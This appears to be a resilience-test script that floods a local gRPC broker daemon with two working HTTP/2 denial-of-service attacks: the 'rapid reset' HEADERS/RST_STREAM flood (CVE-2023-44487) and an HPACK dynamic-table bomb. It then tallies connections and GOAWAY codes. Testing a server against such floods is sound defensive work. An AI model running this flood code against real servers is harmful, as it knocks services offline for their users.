// Attacker agent: HTTP/2 written frame by frame on broker.sock, CONNS connections at once, each
// reopened as soon as brokerd closes it, for MS. MODE:
//   reset  HEADERS for a unary call immediately followed by RST_STREAM(CANCEL), as fast as the
//          socket takes them (CVE-2023-44487, "rapid reset"), stream ids 1, 3, 5, ...
//   hpack  an HPACK dynamic-table bomb: one ~4 KB header inserted into the dynamic table, then
//          HEADERS blocks of one-byte references to it (each byte decodes to ~4 KB of headers);
//          the server's SETTINGS are never acknowledged, so its table keeps the default size
//   hpack-ack  the same, acknowledging the server's SETTINGS first (and honouring a smaller table)
// Prints {connections, refusedAtConnect, streams, goaways, goawayCodes, bytes}.
import { connect, type Socket } from "node:net";

const [socket, connsArg = "2", msArg = "5000", mode = "reset"] = process.argv.slice(2);
const end = Date.now() + Number(msArg);
let stopping = false;
process.on("SIGTERM", () => {
  stopping = true;
});

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

/** An HPACK string literal (no Huffman) with a 7-bit length prefix. */
function str(s: string | Buffer): Buffer {
  const b = typeof s === "string" ? Buffer.from(s, "latin1") : s;
  return Buffer.concat([int(b.length, 7, 0), b]);
}

/** An HPACK integer with an N-bit prefix and the given high bits. */
function int(v: number, bits: number, high: number): Buffer {
  const max = (1 << bits) - 1;
  if (v < max) return Buffer.from([high | v]);
  const out = [high | max];
  v -= max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return Buffer.from(out);
}

// :method POST (static 3), :scheme http (static 6), :path (static 4, literal), :authority
// (static 1, literal), content-type (static 31, literal), te: trailers. Never indexed: each block
// stands alone, whatever the server's table size.
const REQUEST = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  Buffer.from([0x04]),
  str("/vfiobroker.v1.BrokerService/ListDevices"),
  Buffer.from([0x01]),
  str("localhost"),
  Buffer.from([0x0f, 0x10]),
  str("application/grpc"),
  Buffer.from([0x00]),
  str("te"),
  str("trailers"),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
// The bomb's entry: literal with incremental indexing, new name (fits a 4096-byte table: 32 +
// name + value <= 4096).
const BOMB_VALUE = Buffer.alloc(4000, 0x61);
const INSERT = Buffer.concat([Buffer.from([0x40]), str("x-bomb"), str(BOMB_VALUE)]);
const REFS = Buffer.alloc(2000, 0x80 | 62); // indexed: dynamic entry 62 (the newest)

let connections = 0;
let refusedAtConnect = 0;
let streams = 0;
let goaways = 0;
let bytes = 0;
const goawayCodes = new Map<number, number>();
let debugSample = "";

function run(): void {
  if (stopping || Date.now() > end) return;
  const c: Socket = connect(socket!);
  connections++;
  let id = 1;
  let open = true;
  let gotFrames = false;
  let acked = mode !== "hpack-ack";
  let sizeUpdate: Buffer | undefined;
  let buf = Buffer.alloc(0);
  c.on("error", () => {});
  c.on("data", (d: Buffer) => {
    gotFrames = true;
    buf = Buffer.concat([buf, d]);
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      const type = buf[3]!;
      const flags = buf[4]!;
      const payload = buf.subarray(9, 9 + len);
      if (type === 7) {
        goaways++;
        const code = payload.readUInt32BE(4);
        goawayCodes.set(code, (goawayCodes.get(code) ?? 0) + 1);
        if (!debugSample && payload.length > 8) debugSample = payload.subarray(8, 200).toString("utf8");
        // As the attacker: a GOAWAY means a new connection at once.
        open = false;
        c.destroy();
        return;
      }
      if (type === 4 && (flags & 1) === 0 && mode === "hpack-ack") {
        // The server's SETTINGS: note a smaller header table, acknowledge.
        for (let o = 0; o + 6 <= payload.length; o += 6)
          if (payload.readUInt16BE(o) === 1) sizeUpdate = int(payload.readUInt32BE(o + 2), 5, 0x20);
        c.write(frame(4, 1, 0, Buffer.alloc(0)));
        acked = true;
      }
      buf = buf.subarray(9 + len);
    }
  });
  c.on("close", () => {
    open = false;
    if (!gotFrames) refusedAtConnect++;
    if (!stopping && Date.now() < end) setImmediate(run);
  });
  c.once("connect", () => {
    c.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
    const pump = () => {
      while (open && !stopping && Date.now() < end && id < 0x7fff0000) {
        let chunk: Buffer;
        if (mode === "reset") {
          const parts: Buffer[] = [];
          for (let i = 0; i < 32; i++, id += 2) {
            parts.push(frame(1, 0x4, id, REQUEST), frame(3, 0, id, CANCEL));
            streams++;
          }
          chunk = Buffer.concat(parts);
        } else {
          if (!acked) {
            setTimeout(pump, 5);
            return;
          }
          // First block inserts the entry; every block references it (END_STREAM, END_HEADERS).
          const head = id === 1 ? Buffer.concat([sizeUpdate ?? Buffer.alloc(0), INSERT]) : Buffer.alloc(0);
          sizeUpdate = undefined;
          chunk = frame(1, 0x5, id, Buffer.concat([head, REQUEST, REFS]));
          id += 2;
          streams++;
        }
        bytes += chunk.length;
        if (!c.write(chunk)) {
          c.once("drain", pump);
          return;
        }
      }
      if (open && (stopping || Date.now() >= end)) c.destroy();
    };
    pump();
  });
}

for (let i = 0; i < Number(connsArg); i++) run();
process.stdout.write(`${JSON.stringify({ phase: "attacking" })}\n`);
while (!stopping && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
stopping = true;
await new Promise((r) => setTimeout(r, 100));
process.stdout.write(
  `${JSON.stringify({
    connections,
    refusedAtConnect,
    streams,
    goaways,
    goawayCodes: Object.fromEntries(goawayCodes),
    debugSample,
    bytes,
  })}\n`,
);
process.exit(0);
